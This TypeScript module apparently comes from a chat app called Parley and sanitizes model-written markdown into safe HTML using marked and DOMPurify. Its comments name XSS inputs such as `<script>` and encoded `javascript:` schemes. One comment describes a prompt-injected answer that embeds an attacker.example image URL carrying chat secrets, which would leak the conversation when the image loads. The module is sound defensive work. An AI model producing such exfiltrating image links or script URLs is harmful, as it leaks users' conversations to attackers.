// Markdown -> sanitized HTML. This module is the only place in Parley that
// turns untrusted text (model output) into HTML; everything it returns is safe
// to hand to {@html}.
//
// Two independent layers keep model output from running:
//  1. marked is configured so raw HTML in the markdown never becomes markup:
//     the HTML tokenizers are switched off (raw tags stay paragraph text and
//     are escaped like any other text), unsafe link destinations are rendered
//     as plain text, and images become links.
//  2. Whatever marked emits then goes through DOMPurify with an allowlist of
//     exactly the tags and attributes our renderer produces, and only
//     http(s)/mailto/relative URLs. If layer 1 ever has a bug, layer 2 still
//     holds.

import DOMPurify, { type Config, type DOMPurify as Purifier } from 'dompurify';
import { Marked, type Token, type Tokens, type TokensList } from 'marked';
import hljs from 'highlight.js/lib/core';
import bash from 'highlight.js/lib/languages/bash';
import c from 'highlight.js/lib/languages/c';
import cpp from 'highlight.js/lib/languages/cpp';
import css from 'highlight.js/lib/languages/css';
import diff from 'highlight.js/lib/languages/diff';
import go from 'highlight.js/lib/languages/go';
import java from 'highlight.js/lib/languages/java';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import markdown from 'highlight.js/lib/languages/markdown';
import python from 'highlight.js/lib/languages/python';
import rust from 'highlight.js/lib/languages/rust';
import shell from 'highlight.js/lib/languages/shell';
import sql from 'highlight.js/lib/languages/sql';
import typescript from 'highlight.js/lib/languages/typescript';
import xml from 'highlight.js/lib/languages/xml';
import yaml from 'highlight.js/lib/languages/yaml';

// ---------------------------------------------------------------------------
// Syntax highlighting
// ---------------------------------------------------------------------------

// The core build plus a hand-picked set keeps the bundle small (the full
// highlight.js registers ~190 languages, close to 1 MB). Each grammar brings
// its usual aliases (js, ts, py, sh, html, yml, md, golang, rs, c++, ...).
const LANGUAGES = {
  bash,
  c,
  cpp,
  css,
  diff,
  go,
  java,
  javascript,
  json,
  markdown,
  python,
  rust,
  sql,
  typescript,
  xml,
  yaml,
};
for (const [name, grammar] of Object.entries(LANGUAGES)) hljs.registerLanguage(name, grammar);
// highlight.js's `shell` grammar is for console sessions (`$ cmd` + output);
// models write ```shell for plain scripts, so `shell` means bash here and the
// session grammar keeps its `console` name.
hljs.registerLanguage('console', shell);
hljs.registerAliases(['shell', 'shellscript'], { languageName: 'bash' });

// ---------------------------------------------------------------------------
// Escaping and URLs
// ---------------------------------------------------------------------------

const HTML_ESCAPES: Record<string, string> = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#39;',
};

/** Escapes text for use in HTML content and in double-quoted attributes. */
function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (ch) => HTML_ESCAPES[ch] ?? ch);
}

// Named references that can matter in a URL. Anything not listed here is left
// as literal text, and since we re-escape `&` on output the browser sees that
// same literal text, so an unknown reference can never smuggle in a character.
const NAMED_REFS: Record<string, string> = {
  amp: '&',
  colon: ':',
  tab: '\t',
  newline: '\n',
  sol: '/',
  quot: '"',
  apos: "'",
  lt: '<',
  gt: '>',
  num: '#',
  quest: '?',
  period: '.',
  lpar: '(',
  rpar: ')',
  nbsp: '\u00a0',
};

function codePoint(n: number): string {
  const invalid = n === 0 || n > 0x10ffff || (n >= 0xd800 && n <= 0xdfff);
  return String.fromCodePoint(invalid ? 0xfffd : n);
}

/**
 * Decodes HTML character references in a link destination, as CommonMark asks
 * and as a browser would when reading the attribute. marked keeps them
 * verbatim in `token.href` (e.g. `&#106;avascript:`), so we decode first and
 * check the decoded value; the value we check is exactly the value we emit.
 */
function decodeCharRefs(text: string): string {
  if (!text.includes('&')) return text;
  return text.replace(
    /&(?:#(\d{1,7})|#[xX]([0-9a-fA-F]{1,6})|([a-zA-Z][a-zA-Z0-9]{1,31}));/g,
    (ref, dec, hex, name) => {
      if (dec !== undefined) return codePoint(Number.parseInt(dec as string, 10));
      if (hex !== undefined) return codePoint(Number.parseInt(hex as string, 16));
      return NAMED_REFS[(name as string).toLowerCase()] ?? ref;
    },
  );
}

const SAFE_SCHEMES = new Set(['http', 'https', 'mailto']);

/**
 * Returns the href to emit, or null when the link must not be a link.
 * Allowed: http, https, mailto, and scheme-less (relative, `#fragment`).
 * Browsers ignore ASCII whitespace and control characters inside a scheme
 * (`java\tscript:`), so the scheme is read with those removed.
 */
export function safeUrl(href: string, { decode = true } = {}): string | null {
  const decoded = decode ? decodeCharRefs(href) : href;
  // eslint-disable-next-line no-control-regex -- stripping control chars is the point
  const probe = decoded.replace(/[\u0000-\u0020\u007f-\u009f]/g, '');
  const scheme = /^([^:/?#]*):/.exec(probe)?.[1];
  if (scheme !== undefined && !SAFE_SCHEMES.has(scheme.toLowerCase())) return null;
  try {
    // Percent-encode spaces and non-ASCII like marked does, without
    // double-encoding escapes that are already there.
    return encodeURI(decoded.trim()).replace(/%25/g, '%');
  } catch {
    return null; // lone surrogate
  }
}

// ---------------------------------------------------------------------------
// marked
// ---------------------------------------------------------------------------

// Images inside a link would otherwise become a link inside a link, which the
// HTML parser splits apart. The render is synchronous, so a counter is enough.
let linkDepth = 0;

const marked = new Marked({
  gfm: true,
  breaks: false,
  // Returning undefined means "no match here", so `<img ...>`, `<script>`,
  // `<details ontoggle=...>` etc. are lexed as ordinary text and escaped by
  // the text renderer. The reader sees the literal markup, nothing runs, and
  // markdown around the tags keeps working.
  tokenizer: {
    html: () => undefined,
    tag: () => undefined,
  },
  renderer: {
    // Unreachable with the tokenizers above; kept so that an html token can
    // only ever come out as text.
    html({ text }) {
      return escapeHtml(text);
    },

    link({ href, title, tokens, text, autolink }) {
      linkDepth++;
      let inner: string;
      try {
        inner = autolink ? escapeHtml(text) : this.parser.parseInline(tokens);
      } finally {
        linkDepth--;
      }
      // Autolinks are literal per GFM: their character references are text.
      const url = safeUrl(href, { decode: !autolink });
      if (url === null || linkDepth > 0) return inner;
      const titleAttr = title ? ` title="${escapeHtml(title)}"` : '';
      return `<a href="${escapeHtml(url)}"${titleAttr}>${inner}</a>`;
    },

    // Images are rendered as links, never as <img>. An <img> loads as soon as
    // it is shown, so a prompt-injected answer like
    // `![](https://attacker.example/?q=<secret from the chat>)` would leak the
    // conversation to a third party without a click. A link only goes
    // anywhere if the user chooses to follow it.
    image({ href, title, text }) {
      const label = escapeHtml(text || href);
      const url = safeUrl(href);
      if (url === null || linkDepth > 0) return label;
      const titleAttr = title ? ` title="${escapeHtml(title)}"` : '';
      return `<a class="md-image" href="${escapeHtml(url)}"${titleAttr}>${label}</a>`;
    },

    // GFM task list items. A disabled <input> would do, but keeping <input>
    // out of the allowlist entirely is simpler to reason about.
    checkbox({ checked }) {
      const label = checked ? 'Done' : 'Not done';
      return `<span class="md-task" role="img" aria-label="${label}">${checked ? '☑' : '☐'}</span> `;
    },

    // Same markup as marked's own table, inside a scroll container: a wide
    // table scrolls on its own instead of widening the chat, and the <table>
    // keeps its native display (and so its table semantics for screen readers).
    table(token) {
      const row = (cells: Tokens.TableCell[]) =>
        this.tablerow({ text: cells.map((cell) => this.tablecell(cell)).join('') });
      const head = row(token.header);
      const body = token.rows.map(row).join('');
      return (
        `<div class="md-table"><table>\n<thead>\n${head}</thead>\n` +
        `${body ? `<tbody>${body}</tbody>` : ''}</table></div>\n`
      );
    },

    code({ text, lang }) {
      // The info string may carry more than the language (```js {1,3}).
      const requested = (lang ?? '').trim().split(/\s/, 1)[0] ?? '';
      const name = requested
        .toLowerCase()
        .replace(/[^a-z0-9+#._-]/g, '')
        .slice(0, 32);
      const known = name !== '' && hljs.getLanguage(name) !== undefined;
      const body = known
        ? hljs.highlight(text, { language: name, ignoreIllegals: true }).value
        : escapeHtml(text);
      const className = name ? `hljs language-${name}` : 'hljs';
      // The button is wired by event delegation in RenderedMarkdown.svelte.
      return (
        `<pre data-lang="${name}">` +
        `<button type="button" class="md-copy" aria-label="Copy code">Copy</button>` +
        `<code class="${className}">${body}\n</code></pre>\n`
      );
    },
  },
});

// ---------------------------------------------------------------------------
// DOMPurify
// ---------------------------------------------------------------------------

// Exactly what the renderer above produces. No img, input, form, style,
// script, iframe, object, embed, svg or math.
const ALLOWED_TAGS = [
  'a',
  'blockquote',
  'br',
  'button',
  'code',
  'del',
  'div',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'li',
  'ol',
  'p',
  'pre',
  'span',
  'strong',
  'table',
  'tbody',
  'td',
  'th',
  'thead',
  'tr',
  'ul',
];
const ALLOWED_ATTR = [
  'align',
  'aria-label',
  'class',
  'data-lang',
  'href',
  'rel',
  'role',
  'start',
  'target',
  'title',
  'type',
];

const PURIFY_CONFIG: Config = {
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  // http(s), mailto, or no scheme at all (relative paths, #fragments).
  // DOMPurify strips whitespace before testing, so " javascript:" fails too.
  ALLOWED_URI_REGEXP: /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i,
};

// Classes our renderer and highlight.js emit (hljs v11 adds sub-scope tokens
// like `function_`). Anything else is dropped so sanitized output can never
// borrow the app's own classes.
const SAFE_CLASS = /^(?:hljs(?:-[\w-]+)?|language-[\w+#.-]+|md-[\w-]+|[a-z]\w*_+)$/;

let purifier: Purifier | undefined;

/** Our own DOMPurify instance, so our hooks never touch anyone else's. */
function getPurifier(): Purifier {
  if (purifier) return purifier;
  const p = DOMPurify(window);
  // Without a DOM, DOMPurify returns its input unchanged; refuse instead.
  if (!p.isSupported) throw new Error('DOMPurify is not supported in this environment.');
  p.setConfig(PURIFY_CONFIG);
  p.addHook('uponSanitizeAttribute', (_node, event) => {
    if (event.attrName !== 'class') return;
    const kept = event.attrValue.split(/\s+/).filter((c) => SAFE_CLASS.test(c));
    event.attrValue = kept.join(' ');
    if (kept.length === 0) event.keepAttr = false;
  });
  p.addHook('afterSanitizeAttributes', (node) => {
    // Every link opens in a new tab and gets no window.opener or referrer.
    if (node.tagName === 'A') {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer');
    }
  });
  purifier = p;
  return p;
}

/**
 * The second layer on its own: sanitizes HTML with the render allowlist.
 * Exported so tests can check it without the first layer in front of it.
 */
export function sanitizeHtml(html: string): string {
  return getPurifier().sanitize(html);
}

// ---------------------------------------------------------------------------
// Public API
// ---------------------------------------------------------------------------

/** Renders a whole markdown document (GFM) to sanitized HTML. */
export function renderMarkdown(text: string): string {
  return sanitizeHtml(marked.parse(text, { async: false }));
}

/** One top-level block of a rendered document. */
export interface RenderedBlock {
  /** Stable while the block's source and position are unchanged; use as an {#each} key. */
  readonly key: string;
  /** Sanitized HTML of the block. */
  readonly html: string;
}

// Bounded LRU of rendered blocks, shared by every message on screen. While an
// answer streams, every frame adds one entry (the growing last block), so both
// the count and the total size of the cached HTML are capped. The document
// being rendered is always allowed to fit, however long: a cap smaller than
// one document would make an LRU evict each block just before it is needed
// again, and every frame would re-render everything.
const CACHE_MAX_ENTRIES = 1000;
const CACHE_MAX_CHARS = 4_000_000;
const cache = new Map<string, RenderedBlock>();
let cachedChars = 0;

const entryChars = (key: string, block: RenderedBlock) => key.length + block.html.length;

function cacheGet(key: string): RenderedBlock | undefined {
  const hit = cache.get(key);
  if (hit) {
    // Re-insert to mark as most recently used (a Map keeps insertion order).
    cache.delete(key);
    cache.set(key, hit);
  }
  return hit;
}

function cacheSet(key: string, block: RenderedBlock): void {
  cache.set(key, block);
  cachedChars += entryChars(key, block);
}

/**
 * Evicts least recently used entries down to the caps, but never the newest
 * `keepEntries` (the blocks of the document just rendered, which are the most
 * recently used and so sit at the end of the Map).
 */
function evict(keepEntries: number, keepChars: number): void {
  const maxEntries = Math.max(CACHE_MAX_ENTRIES, keepEntries);
  const maxChars = Math.max(CACHE_MAX_CHARS, keepChars);
  for (const [key, block] of cache) {
    if (cache.size <= maxEntries && cachedChars <= maxChars) break;
    if (cache.size <= keepEntries) break;
    cache.delete(key);
    cachedChars -= entryChars(key, block);
  }
}

/** Empties the block cache (for tests and memory pressure). */
export function clearRenderCache(): void {
  cache.clear();
  cachedChars = 0;
}

/** FNV-1a, 32 bit: a short, cheap fingerprint of a block's source for its key. */
function hash(text: string): string {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) {
    h ^= text.charCodeAt(i);
    h = Math.imul(h, 0x01000193);
  }
  return (h >>> 0).toString(36);
}

/**
 * Renders a markdown document as a list of top-level blocks, each sanitized on
 * its own and memoized by its source. While an answer streams only its last
 * block changes, so only that block is rendered and sanitized again; the
 * others come from the cache with the same key and the same object.
 *
 * The whole document is still lexed every time (cheap next to highlighting
 * and sanitizing), which is what keeps the result identical to
 * renderMarkdown(): lists stay one block however long they grow, and
 * reference-style links resolve against definitions anywhere in the text.
 * Because a reference's target lives outside the block, blocks that may hold
 * one are cached under the document's definitions too.
 */
export function renderMarkdownBlocks(text: string): RenderedBlock[] {
  const tokens: TokensList = marked.lexer(text);
  const defs = Object.keys(tokens.links).length > 0 ? JSON.stringify(tokens.links) : '';
  const blocks: RenderedBlock[] = [];
  let used = 0;
  let usedChars = 0;
  tokens.forEach((token: Token, index) => {
    // Blank lines and link definitions render to nothing.
    if (token.type === 'space' || token.type === 'def') return;
    const usesDefs = defs !== '' && token.raw.includes('[');
    const cacheKey = `${index}\u0000${usesDefs ? defs : ''}\u0000${token.raw}`;
    let block = cacheGet(cacheKey);
    if (!block) {
      const html = sanitizeHtml(marked.parser([token]));
      // Frozen: cached blocks are shared by every caller (and every message).
      block = Object.freeze({ key: `${index}-${hash(token.raw)}`, html });
      cacheSet(cacheKey, block);
    }
    used++;
    usedChars += entryChars(cacheKey, block);
    if (block.html !== '') blocks.push(block);
  });
  evict(used, usedChars);
  return blocks;
}
